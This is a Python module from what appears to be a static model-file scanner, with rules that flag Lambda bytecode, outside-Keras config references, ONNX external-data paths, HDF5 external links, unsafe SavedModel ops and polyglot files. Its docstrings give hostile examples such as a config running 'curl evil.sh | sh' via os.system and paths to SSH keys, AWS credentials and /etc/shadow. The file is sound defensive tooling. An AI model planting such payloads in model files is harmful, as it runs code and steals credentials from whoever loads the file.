"""SEC: safety of the file — what would run, be imported or be opened if a
framework loaded it.

A saved model is a program in disguise.  A Keras ``Lambda`` layer stores Python
bytecode; a config can name any importable Python function; an HDF5 file can link
to other files; ONNX external data can point anywhere on disk; a SavedModel graph
can hold ops that read and write files or call back into Python.  inspector reads
all of these *as data* and executes or follows none of them: the loaders record
each one as a :class:`~inspector.ir.SecurityFact` (``graph.security``), and the
rules here report them, one finding per fact, on the layer it belongs to.

What to do with a finding: do not load the file with the framework (or only in a
sandbox) unless you trust its author, and prefer formats and layers that carry
data only — registered layer classes instead of ``Lambda``, weights inside the
file or next to it.
"""

from __future__ import annotations

from typing import Iterator

from ..findings import Severity
from ..ir import ModelGraph, SecurityFact
from ..trust import security_facts
from .engine import Context, Hit
from .registry import rule

_ADVICE = {
    "SEC001": "load the file with Keras (safe_mode=False, tf_keras, SavedModel) only if you trust its author",
    "SEC002": "loading the file imports or looks up that code, so it must come from you, not from the file",
    "SEC003": "onnx.load and ONNX Runtime would read that file",
    "SEC004": "",
    "SEC005": "TensorFlow runs it when the SavedModel is loaded and called",
    "SEC006": "do not load the file with a framework unless you trust its author",
}

SEC004_WARNING_KINDS = frozenset({"soft-link", "declared-size", "group-alias"})
"""SEC004 facts that do not reach outside the file: reported as warnings.  External
links, virtual datasets, external storage and user-defined links make HDF5 open
other files: errors."""


def _layer_paths(ctx: Context) -> tuple[set[str], dict[str, list[str]]]:
    def compute() -> tuple[set[str], dict[str, list[str]]]:
        paths: set[str] = set()
        by_name: dict[str, list[str]] = {}
        for path, lay in ctx.model.walk():
            paths.add(path)
            by_name.setdefault(lay.name, []).append(path)
        return paths, by_name

    return ctx.cached("security:layer-paths", compute)


def _resolve(ctx: Context, layer: str | None) -> str | None:
    """The graph path a fact's ``layer`` names: itself when it is a path of the
    graph, the only layer with that name otherwise, else None (a model finding)."""
    if not layer:
        return None
    paths, by_name = _layer_paths(ctx)
    if layer in paths:
        return layer
    candidates = by_name.get(layer.rsplit("/", 1)[-1], [])
    return candidates[0] if len(candidates) == 1 else None


def _message(fact: SecurityFact) -> str:
    advice = _ADVICE.get(fact.code, "")
    return f"{fact.message}; {advice}" if advice else fact.message


def _hits(ctx: Context, code: str) -> Iterator[tuple[SecurityFact, str | None]]:
    """Each fact of ``code`` once, with the graph path of its layer."""
    seen: set[tuple[str | None, str]] = set()
    for fact in security_facts(ctx.model):
        if fact.code != code:
            continue
        layer = _resolve(ctx, fact.layer)
        key = (layer, fact.message)
        if key in seen:
            continue
        seen.add(key)
        yield fact, layer


@rule("SEC001", "code-carrying-layer", Severity.ERROR)
def code_carrying_layer(ctx: Context) -> Iterator[Hit]:
    """A layer carries code that would run when the model is loaded.

    ## What it does
    Reports every place in the file where loading the model would execute
    code the file itself brings: a Keras ``Lambda`` layer whose function is
    stored as marshalled Python bytecode (in ``.keras``, legacy ``.h5`` and
    SavedModel metadata, in nested models too), any config entry whose
    ``*_type`` says ``lambda`` (an ``output_shape`` lambda, a lambda hidden
    in an initializer's config), a ``TorchModuleWrapper`` (a pickled
    PyTorch module), a ``TFSMLayer`` (loads and runs another SavedModel from
    a path) and the JAX/Flax wrappers.  Nothing is executed to find them:
    the config is read as JSON.

    ## Why is this bad?
    Bytecode in a model file is arbitrary code.  Keras 3 refuses it by
    default (``safe_mode=True``), but ``safe_mode=False``, Keras 2 /
    ``tf_keras``, ``tf.saved_model.load`` of a Keras SavedModel and many
    serving stacks run it while loading — with the loading user's
    permissions.  A shared or downloaded model with a Lambda layer is a
    classic way to ship malware.  Even a benign Lambda ties the model to
    one Python version (bytecode is not portable).

    ## Example
    ```python
    layers.Lambda(lambda x: x * 2.0)          # SEC001: the lambda is saved as bytecode

    @keras.saving.register_keras_serializable(package="my_project")
    class Double(layers.Layer):               # instead: a registered layer class,
        def call(self, x):                    # whose code ships with your package
            return x * 2.0
    ```
    """
    for fact, layer in _hits(ctx, "SEC001"):
        yield Hit(_message(fact), layer=layer)


@rule("SEC002", "non-keras-reference", Severity.ERROR)
def non_keras_reference(ctx: Context) -> Iterator[Hit]:
    """The config names Python code or files from outside Keras.

    ## What it does
    Reports config entries that make Keras import a module, look up custom
    code, or read a file while loading the model: a ``module`` whose root
    is not ``keras``, ``keras_hub``, ``keras_cv`` or ``keras_nlp``; a
    registered custom object (``"my_package>MyLayer"``); a class Keras
    does not provide; a plain function that is not a Keras activation;
    Keras's own non-modelling functions used as "gadgets" (``get_file``,
    ``load_model``, ``enable_unsafe_deserialization`` …); and lookup layers
    or tokenizers whose ``vocabulary`` is a file path.

    ## Why is this bad?
    Deserializing a config resolves every name in it.  A module outside
    Keras is imported (running its top-level code); a gadget function
    downloads files, loads a second model or turns off safe mode; a
    vocabulary path makes the loader read any file the author chose.  A
    custom layer is not malicious by itself, but the model then only works
    with code that must come from you — never let the file choose it.

    ## Example
    ```json
    {"module": "os", "class_name": "system", "config": "curl evil.sh | sh"}
    {"class_name": "StringLookup", "config": {"vocabulary": "/home/me/.ssh/id_rsa"}}
    {"module": "keras.utils", "class_name": "function", "config": "get_file"}
    ```
    """
    for fact, layer in _hits(ctx, "SEC002"):
        yield Hit(_message(fact), layer=layer)


def _external_data_problems(ctx: Context, reported: set[str]) -> Iterator[Hit]:
    """SEC003 problems the ONNX loader left in its metadata rather than as facts:
    an external data file that is not a regular file, and offsets or lengths that
    overrun the file."""
    graph: ModelGraph = ctx.model
    infos = {str(i.get("location")): i for i in graph.metadata.get("external_data") or []
             if isinstance(i, dict)}
    if not infos:
        return
    first_user: dict[str, tuple[str, str]] = {}
    overrun: dict[str, tuple[str, str, int, int, int]] = {}
    for path, lay in graph.walk():
        for w in lay.weights:
            ext = w.external
            if ext is None:
                continue
            first_user.setdefault(ext.location, (path, w.name))
            size = infos.get(ext.location, {}).get("size")
            if isinstance(size, int) and ext.location not in overrun:
                end = ext.offset + (ext.length if ext.length is not None else max(0, size - ext.offset))
                if ext.offset < 0 or ext.offset > size or end > size:
                    overrun[ext.location] = (path, w.name, ext.offset, end - ext.offset, size)
    for location, info in sorted(infos.items()):
        if location in reported:
            continue
        status = str(info.get("status", ""))
        layer, tensor = first_user.get(location, (None, "?"))
        if status == "not a regular file":
            yield Hit(f"external data location {location!r} of tensor {tensor!r} is not a regular file "
                      "(a device, FIFO or folder); reading it could block or read endlessly", layer=layer)
        elif location in overrun:
            layer, tensor, offset, length, size = overrun[location]
            yield Hit(f"external data of tensor {tensor!r} (offset {offset:,}, length {length:,}) overruns "
                      f"{location!r}, which holds {size:,} bytes: the file is truncated or crafted", layer=layer)


@rule("SEC003", "external-data-outside-folder", Severity.ERROR)
def external_data_outside_folder(ctx: Context) -> Iterator[Hit]:
    """ONNX external data points outside the model's folder, or at something that is not data.

    ## What it does
    Reports tensors (initializers, sparse values and indices, attribute
    tensors such as a ``ConstantOfShape`` value, in sub-graphs and functions)
    whose ``external_data`` location is absolute, contains
    ``..``, starts with ``~``, passes through a symbolic link or a hard link,
    resolves outside the model's folder, is not a regular file, or whose
    offset and length overrun the file.  inspector never opens such a
    location (it records the reference and reads weights only from inside
    the folder).

    ## Why is this bad?
    ``onnx.load`` and ONNX Runtime read external data relative to the model
    file, and follow whatever path the file gives them.  A model whose
    weights live at ``../../home/user/.aws/credentials`` or
    ``/etc/shadow`` turns "load this model" into "read this file" — and a
    service that returns model outputs may leak the bytes.  A FIFO or
    device as weights hangs or exhausts the loader.

    ## Example
    ```python
    onnx.save_model(model, "m.onnx", save_as_external_data=True,
                    location="weights.bin")            # fine: next to the model
    # tensor.external_data: location = "../secret"    # SEC003
    ```
    """
    reported: set[str] = set()
    for fact, layer in _hits(ctx, "SEC003"):
        if fact.detail:
            reported.add(fact.detail)
        yield Hit(_message(fact), layer=layer)
    yield from _external_data_problems(ctx, reported)


@rule("SEC004", "hdf5-external-reference", Severity.ERROR)
def hdf5_external_reference(ctx: Context) -> Iterator[Hit]:
    """The HDF5 file links to other files, or declares data it does not store.

    ## What it does
    Reports HDF5 objects that Keras never writes: external links (into
    another file), virtual datasets (mapping other files), datasets with
    external storage (their bytes in raw files named by the file), and
    user-defined links — errors, because h5py and Keras open those files
    when they follow them.  Soft links, a group linked twice (which can form
    a loop) and datasets whose declared size dwarfs what they store (a
    decompression bomb) are warnings.  inspector follows none of them and
    never reads such a dataset.

    ## Why is this bad?
    Loading a ``.h5`` or ``.keras`` model with Keras reads every weight
    through h5py, which resolves links and virtual datasets by opening the
    files they name — anywhere on disk, with the loader's permissions.  A
    dataset that declares terabytes and stores kilobytes makes the loader
    allocate the declared size and crash the process or the machine.

    ## Example
    ```python
    with h5py.File("model.h5", "a") as f:
        f["model_weights/dense/dense/kernel:0"] = h5py.ExternalLink("/etc/passwd", "/x")  # SEC004
    ```
    """
    for fact, layer in _hits(ctx, "SEC004"):
        severity = Severity.WARNING if fact.kind in SEC004_WARNING_KINDS else None
        yield Hit(_message(fact), layer=layer, severity=severity)


@rule("SEC005", "unsafe-savedmodel-op", Severity.ERROR)
def unsafe_savedmodel_op(ctx: Context) -> Iterator[Hit]:
    """A SavedModel's graph holds file-system, network or Python-callback ops.

    ## What it does
    Reads ``saved_model.pb`` statically (no TensorFlow runtime, nothing
    loaded) and reports ops in the main graph or any function of the library
    that reach outside the computation: ``ReadFile``, ``WriteFile``,
    ``MatchingFiles``, file readers and dataset sources, summary writers,
    ``PyFunc``/``EagerPyFunc`` (Python callbacks), RPC and debug ops that
    send tensors elsewhere, ``PrintV2`` to a file.  The checkpoint ops of the
    SavedModel's own saver are expected and not reported.

    ## Why is this bad?
    A SavedModel is a TensorFlow program.  Whoever loads and calls it runs
    its ops: a ``ReadFile`` of ``/etc/passwd`` whose bytes flow into the
    output leaks the file, a ``WriteFile`` plants one, a ``PyFunc`` calls
    back into Python.  Models meant for inference have no reason to touch
    the file system or the network.

    ## Example
    ```python
    @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
    def serve(path):
        return tf.io.read_file(path)        # SEC005: ReadFile
    ```
    """
    for fact, layer in _hits(ctx, "SEC005"):
        yield Hit(_message(fact), layer=layer)


@rule("SEC006", "ambiguous-container", Severity.ERROR)
def ambiguous_container(ctx: Context) -> Iterator[Hit]:
    """The file or folder holds more than one model a loader could read (a polyglot).

    ## What it does
    Reports a model file that is two containers at once — an HDF5 file with a
    zip archive appended, a zip archive in an HDF5 file's user block (HDF5
    finds its superblock at byte 0, 512, 1024 …; zip readers find an archive
    from its end, after prepended data) — and a SavedModel folder that also
    holds a Keras model (``config.json``, ``.keras`` or ``.h5`` files).
    inspector scans every such model with the other SEC rules (their findings
    name the part they come from) and reports the ambiguity itself here.

    ## Why is this bad?
    Which part a framework loads depends on the tool, its version and the file
    name (Keras picks the loader by suffix), not on what a scanner saw first: a
    harmless-looking model can carry a second one with a ``Lambda`` that runs
    on load.  Nothing legitimate needs a model file to be two formats.

    ## Example
    ```shell
    cat harmless.h5 lambda.keras > model.h5     # SEC006: HDF5 and a .keras zip
    cp lambda/config.json saved_model_dir/      # SEC006: a SavedModel plus a Keras config
    ```
    """
    for fact, layer in _hits(ctx, "SEC006"):
        yield Hit(_message(fact), layer=layer)
